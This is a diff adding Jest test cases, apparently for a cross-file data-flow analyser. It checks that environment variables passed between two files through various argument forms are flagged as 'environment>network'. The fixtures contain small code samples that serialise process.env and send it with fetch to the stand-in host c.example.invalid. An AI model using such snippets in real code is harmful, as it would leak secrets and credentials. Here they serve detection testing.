@@ -140,3 +140,24 @@ test('a way is shown from where the data comes from, through its files, to where
   expect(flow!.trace.at(-1)).toEqual({ file: 'b.js', start: flow!.sink.start });
   expect(flow!.texts()).toEqual(['host c.example.invalid']);
 });
+
+describe('arguments that another file takes', () => {
+  const begins = 'const u = require("./b"); const k = JSON.stringify(process.env); ';
+  const url = '"https://c.example.invalid"';
+  test.each<[call: string, other: string]>([
+    [`u.send(${url}, k)`, 'exports.send = (a, b) => fetch(a, { body: b })'],
+    [`u.send(${url}, k)`, 'exports.send = function () { fetch(arguments[0], { body: arguments[1] }) }'],
+    [`u.send(${url}, k)`, 'exports.send = (...all) => fetch(all[0], { body: all[1] })'],
+    [`u.send(${url}, 1, 2, k)`, 'exports.send = (a, ...all) => fetch(a, { body: all[2] })'],
+    [`u.send(...[${url}, k])`, 'exports.send = (a, b) => fetch(a, { body: b })'],
+    [`u.send(...[${url}, k])`, 'exports.send = (...all) => fetch(...all)'],
+    [`u.send(${url}, ...[1, k])`, 'exports.send = (a, b, c) => fetch(a, { body: c })'],
+    [`u.send(${url}, 1, k)`, 'exports.send = function (a) { fetch(a, { body: arguments[2] }) }'],
+    [`u.send(${url}, 1, k)`, 'exports.send = function (a) { return go.apply(this, arguments) }; function go(a, b, c) { fetch(a, { body: c }) }'],
+    [`const r = u.id(1, k); fetch(${url}, { body: r })`, 'exports.id = function () { return arguments[1] }'],
+    [`const r = u.id(1, k); fetch(${url}, { body: r })`, 'exports.id = (a, ...b) => b[0]'],
+    [`const r = u.id(...[1, k]); fetch(${url}, { body: r })`, 'exports.id = (a, b) => b'],
+  ])('%s to %s', (call, other) => {
+    expect(ways({ 'a.js': begins + call, 'b.js': other })).toEqual(['environment>network']);
+  });
+});
